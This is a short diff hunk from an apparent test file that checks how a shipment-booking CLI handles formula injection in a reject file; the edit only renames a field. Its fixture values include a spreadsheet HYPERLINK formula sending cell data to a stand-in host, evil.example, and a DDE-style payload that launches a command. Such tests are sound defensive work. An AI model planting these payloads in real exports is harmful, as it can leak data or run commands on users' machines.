@@ -65,7 +65,7 @@ describe('formula injection in a reject file', () => {
     expect(fixed.code, fixed.stderr).toBe(0);
     const booked = (await shipments(cli)).find((shipment) => shipment.refNumber !== 'OK-1')!;
     expect(booked.refNumber).toBe('=HYPERLINK("http://evil.example/?"&A1,"Invoice")');
-    expect(booked.consignee.name).toBe('=2+5');
+    expect(booked.deliveryAddress.name).toBe('=2+5');
     expect(booked.orderComponents[0]).toMatchObject({ poundsWeight: 500, description: "+SUM(1+1)*cmd|'/C calc'!A0", packagingType: '@crates', nmfcCode: '-161030' });
   });
 });
